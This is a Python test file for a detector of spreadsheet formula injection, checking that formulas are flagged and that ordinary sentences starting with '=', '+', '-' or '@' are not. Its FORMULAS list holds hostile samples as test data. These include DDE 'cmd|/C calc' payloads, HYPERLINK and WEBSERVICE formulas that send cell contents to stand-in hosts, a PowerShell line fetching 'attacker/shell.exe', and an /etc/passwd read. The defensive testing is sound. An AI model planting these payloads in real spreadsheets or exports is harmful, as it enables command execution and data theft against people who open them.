import string
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from agent.triage.formulas import is_formula

FORMULAS = """\
=HYPERLINK("http://x")
=HYPERLINK("http://evil?x="&A1&B2,"Error; please click")
=cmd|' /C calc'!A0
+cmd|' /C calc'!A0
-cmd|'/C calc'!A0
@SUM(1+1)*cmd|' /C calc'!A0
+1+cmd|x
-2+3+cmd|'/C calc'!A0
=10+20+cmd|' /C calc'!A0
=AAAA+BBBB-CCCC&"Hello"/12345&cmd|'/c calc.exe'!A
=rundll32|'URL.dll,OpenURL "x"'!_xlbgnm.A1
=cmd|'/C powershell IEX(wget attacker/shell.exe)'!A0
='file:///etc/passwd'#$passwd.A1
=WEBSERVICE(CONCATENATE("http://x",A1))
=IMPORTXML(CONCAT("http://x?v=", CONCATENATE(A2:E2)), "//a/a10")
=DDE("cmd";"/C calc";"__DdeLink_60_870516294")
=SUM (1,2)
=SUM(A:A)
=IF(A1>=2,"yes",)
=NOW()
=A1
+$B$2
-A1+B2
='Other sheet'!A1
=Sheet2!$A$1:$B$7
@A1
=-+A1
=1+1
="a"&"b"
=SUM(A1
'=A1
  =A1
-SUM(A1:A3)*2
= A1 * ( B1 + 2 )
""".splitlines()

SENTENCES = """\
- Login (mobile) fails
==== Forwarded message
---- Original message ----
@John (support)
@support please help
@anna, @ben: who looks at A1?
-20 euros were taken
+49 30 1234 is my number
+49 (30) 1234-56
+1-800-555-1234
- Refund(s) not received
- A1 is broken
-A4 paper is missing
- room B12, room B14
- Home | Contact | Login
-yes|no, what is it?
=> see below
=)
= total
=5
-1
+1
-
=
--
-- sent from my phone
- first
- see you (or not) at 7
+ price: 20 (net)
plain text = SUM(A1)
mail me at a@b.com
""".splitlines()


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_would_run_is_a_formula(text: str) -> None:
    assert is_formula(text)


@pytest.mark.parametrize("text", [*SENTENCES, "", "- milk\n- eggs (6)\n- A4 paper"])
def test_a_sentence_is_none_whatever_sign_it_begins_with(text: str) -> None:
    assert not is_formula(text)


words = st.lists(st.text(string.ascii_letters, min_size=1), min_size=2).map(" ".join)


@given(sign=st.sampled_from(["-", "+", "@", "=", "- ", "== ", "--- "]), said=words)
def test_words_after_a_sign_are_never_a_formula(sign: str, said: str) -> None:
    assert not is_formula(sign + said)


operands = st.sampled_from(["A1", "$B$2", "cmd|'/C calc'!A0", "SUM(A1:B2)", 'HYPERLINK("x","y")'])
numbers = st.integers(0, 99).map(str)


@given(
    sign=st.sampled_from("=+-@"),
    before=st.lists(numbers),
    runs=operands,
    after=st.lists(st.one_of(operands, numbers)),
    between=st.sampled_from(["+", "-", "*", "/", " & ", " + "]),
)
def test_whatever_is_reckoned_with_a_call_or_a_pipe_is_a_formula(
    sign: str, before: list[str], runs: str, after: list[str], between: str
) -> None:
    assert is_formula(sign + between.join([*before, runs, *after]))


@pytest.mark.parametrize("part", ["=", "1--", "A1+(", "=f(", "'", '"', "a|'", "k,", "=1,)", "-- "])
def test_the_longest_text_takes_no_time(part: str) -> None:
    begun = time.perf_counter()
    is_formula("=" + part * (100_000 // len(part)) + "?")
    assert time.perf_counter() - begun < 2
